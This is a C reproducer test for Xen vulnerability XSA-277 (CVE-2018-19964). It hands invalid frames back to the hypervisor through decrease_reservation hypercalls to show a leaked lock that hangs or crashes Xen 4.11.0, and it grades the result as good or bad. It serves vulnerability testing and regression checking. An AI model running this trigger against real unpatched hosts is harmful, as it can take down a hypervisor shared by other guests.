/*
 * XSA-277 (CVE-2018-19964): a lock that stays held when a page cannot be given back.
 *
 * @title     giving back pages that cannot be, and what comes after
 * @affected  Xen 4.11.0; fixed in 4.11.1
 * @platforms xen-pvh
 * @needs     timeout=15
 * @expect    4=good
 *
 * Background: a guest gives memory back by frame number. Some frames cannot be: there is nothing,
 * or what is there is not the guest's.
 *
 * Mechanism: on one way out for such a frame Xen did not release the lock of the guest's address
 * map. The next that wants the lock waits for ever, or an assertion fails.
 *
 * Verdicts: good: every kind of frame is refused, and a proper one is given back afterwards. bad:
 * the hypervisor hangs, which the time limit shows, or crashes.
 *
 * Cannot tell: for kinds of frames that only a toolstack can make (shared, paged out).
 */
#include "mm/mm.h"
#include "pv/xen/xen.h"
#include "repro/kit.h"

static long give_back(u64 gfn)
{
    xen_pfn_t frame = gfn;
    struct xen_memory_reservation op = {.nr_extents = 1, .domid = DOMID_SELF};

    set_xen_guest_handle_raw(op.extent_start, &frame);
    return hc_memory_op(XENMEM_decrease_reservation, &op);
}

REPRO("xsa-277")
{
    const u64 hole = GIB(64) >> PAGE_SHIFT, apic = 0xfee00, beyond = 1ull << 40;
    const u64 shared = kit_gfn(xen_shared_info), rom = 0xf0;
    const u64 odd[] = {hole, apic, beyond, ~0ull, rom};
    u64 mine;

    kit_needs(KIT_XEN_PVH);
    mine = kit_gfn(kit_frame());
    for (u32 i = 0; i < ARRAY_SIZE(odd); i++)
        if (give_back(odd[i]) == 1)
            print("# frame 0x%llx was taken\n", (unsigned long long)odd[i]);
    if (give_back(shared) == 1)
        print("# the shared page was taken\n");
    if (give_back(mine) != 1)
        cannot_tell("a proper frame was refused");
    exercised();
    if (give_back(mine) == 1)
        bad("a frame was given back twice");
    good("odd frames were refused, a proper one taken, and again refused");
}
